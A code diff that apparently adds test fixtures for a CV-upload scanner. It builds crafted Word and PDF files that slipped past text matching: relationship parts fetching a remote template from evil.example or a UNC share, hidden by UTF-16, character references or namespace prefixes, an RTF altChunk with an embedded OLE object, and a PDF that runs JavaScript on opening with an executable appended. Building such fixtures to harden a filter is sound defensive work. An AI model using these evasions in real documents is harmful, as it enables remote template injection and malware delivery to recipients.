@@ -7,15 +7,27 @@ import { writeZip, type ZipPart } from './zipWriter';
 
 /** A valid, minimal one-page PDF with one line of text ("Ana Horvat, CV"; a certificate's name). */
 export function samplePdf(text = 'Ana Horvat, CV'): Buffer {
+  return pdfWith({ text });
+}
+
+/**
+ * A one-page PDF written object by object: `catalog` adds entries to the catalogue (object 1), and
+ * `objects` are numbered from 6 on, after the page's own five.
+ */
+export function pdfWith({
+  text = 'Ana Horvat, CV',
+  catalog = '',
+  objects: extra = [],
+}: { text?: string; catalog?: string; objects?: string[] } = {}): Buffer {
+  const stream = `BT /F1 18 Tf 72 770 Td (${text.replace(/[()\\]/g, '')}) Tj ET`;
   const objects = [
-    '<< /Type /Catalog /Pages 2 0 R >>',
+    `<< /Type /Catalog /Pages 2 0 R ${catalog}>>`,
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
-    null,
+    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
     '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    ...extra,
   ];
-  const stream = `BT /F1 18 Tf 72 770 Td (${text.replace(/[()\\]/g, '')}) Tj ET`;
-  objects[3] = `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`;
   let body = '%PDF-1.4\n';
   const offsets: number[] = [];
   objects.forEach((object, index) => {
@@ -62,6 +74,80 @@ export function sampleDocx(...extra: ZipPart[]): Buffer {
   const replaced = new Set(extra.map((part) => part.name));
   return writeZip([...wordParts.filter((part) => !replaced.has(part.name)), ...extra]);
 }
+
+const relationshipsNamespace = 'http://schemas.openxmlformats.org/package/2006/relationships';
+const relationshipType = (type: string) =>
+  `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`;
+
+/**
+ * The hostile files that text matching let through to HR (issue 38), each as Word reads it: a
+ * `.rels` part in UTF-16 with an external template; `TargetMode="&#69;xternal"` (a character
+ * reference); a prefixed `<pr:Relationship>` with an external template; an RTF with an OLE object
+ * imported through `altChunk`; and a PDF that runs JavaScript on opening with a program appended.
+ */
+export const craftedCvs = {
+  utf16Relationships: (): Buffer =>
+    sampleDocx({
+      name: 'word/_rels/settings.xml.rels',
+      data: Buffer.concat([
+        Buffer.from([0xff, 0xfe]),
+        Buffer.from(
+          '<?xml version="1.0" encoding="UTF-16" standalone="yes"?>' +
+            `<Relationships xmlns="${relationshipsNamespace}">` +
+            `<Relationship Id="rId1" Type="${relationshipType('attachedTemplate')}" Target="http://evil.example/t.dotm" TargetMode="External"/>` +
+            '</Relationships>',
+          'utf16le',
+        ),
+      ]),
+    }),
+  characterReferenceTargetMode: (): Buffer =>
+    sampleDocx({
+      name: 'word/_rels/settings.xml.rels',
+      data:
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
+        `<Relationships xmlns="${relationshipsNamespace}">` +
+        `<Relationship Id="rId1" Type="${relationshipType('attachedTemplate')}" Target="http://evil.example/t.dotm" TargetMode="&#69;xternal"/>` +
+        '</Relationships>',
+    }),
+  prefixedRelationship: (): Buffer =>
+    sampleDocx({
+      name: 'word/_rels/settings.xml.rels',
+      data:
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
+        `<pr:Relationships xmlns:pr="${relationshipsNamespace}">` +
+        `<pr:Relationship Id="rId1" Type="${relationshipType('attachedTemplate')}" Target="\\\\evil.example\\share\\t.dotm" TargetMode="External"/>` +
+        '</pr:Relationships>',
+    }),
+  altChunkRtf: (): Buffer =>
+    sampleDocx(
+      {
+        name: 'word/document.xml',
+        data:
+          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
+          '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
+          '<w:body><w:p><w:r><w:t>Ana Horvat, CV</w:t></w:r></w:p><w:altChunk r:id="rId9"/></w:body></w:document>',
+      },
+      {
+        name: 'word/_rels/document.xml.rels',
+        data:
+          `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${relationshipsNamespace}">` +
+          `<Relationship Id="rId9" Type="${relationshipType('aFChunk')}" Target="chunk.dat"/></Relationships>`,
+      },
+      // Named .dat, so that only the relationship and the element tell what it is.
+      {
+        name: 'word/chunk.dat',
+        data: `{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b0000005061636b61676500000000000000000000}}}`,
+      },
+    ),
+  javascriptPdf: (): Buffer =>
+    Buffer.concat([
+      pdfWith({
+        catalog: '/OpenAction 6 0 R ',
+        objects: ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'],
+      }),
+      windowsExecutable(),
+    ]),
+};
 
 /** A Word document carrying a VBA project and a program beside it (a .docm renamed, plus a dropper). */
 export function macroDocx(): Buffer {
